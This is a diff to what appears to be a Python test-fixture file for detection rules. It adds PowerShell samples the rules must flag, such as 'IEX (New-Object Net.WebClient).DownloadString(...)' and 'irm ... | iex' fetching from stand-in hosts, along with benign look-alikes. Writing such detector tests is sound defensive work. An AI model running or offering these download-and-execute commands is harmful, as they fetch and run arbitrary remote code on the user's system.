@@ -105,6 +105,14 @@ BAD: dict[str, list[bytes]] = {
         joined("<?p¦hp ev¦al('?>' . file_g¦et_contents('https://x.invalid/a'));"),
         joined("eval ge¦t('https://x.invalid/a');"),
     ],
+    "RG-DNR-0020": [
+        joined("IE¦X (New-O¦bject Net.We¦bClient).Down¦loadString('h¦ttp://x.invalid/a.ps1')\r\n"),
+        joined("$a = 1; iw¦r h¦ttps://192.0.2.7/a -UseBasicParsing | ie¦x\n"),
+    ],
+    "RG-DNR-0021": [
+        joined("IE¦X (New-O¦bject Net.We¦bClient).Down¦loadString('h¦ttps://x.invalid/a.ps1')\r\n"),
+        joined("$ErrorActionPreference = 'Stop'\nir¦m h¦ttps://x.invalid/a | ie¦x\n"),
+    ],
 }
 """Samples that a rule must find, by the rule's id."""
 
@@ -180,6 +188,15 @@ BENIGN: dict[str, list[bytes]] = {
     "RG-DNR-0019": [
         joined("text = Net::HTTP.get(URI.parse('https://example.org/a'))"),
         joined("<?p¦hp echo file_get_contents('https://example.org/a');"),
+    ],
+    "RG-DNR-0020": [
+        joined("IE¦X (New-O¦bject Net.We¦bClient).Down¦loadString('h¦ttps://example.org/install.ps1')\r\n"),
+        joined("Invoke-We¦bRequest http://192.0.2.7/a.zip -OutFile a.zip\niex $command\n"),
+    ],
+    "RG-DNR-0021": [
+        joined("# Installation\n\n```powershell\nir¦m h¦ttps://example.org/install.ps1 | ie¦x\n```\n"),
+        joined("<pre>ir¦m h¦ttps://example.org/install.ps1 | ie¦x</pre>\n"),
+        joined("Run ir¦m h¦ttps://example.org/install.ps1 | ie¦x in a terminal.\n"),
     ],
 }
 """Harmless content that is like a rule's samples, by the rule's id."""
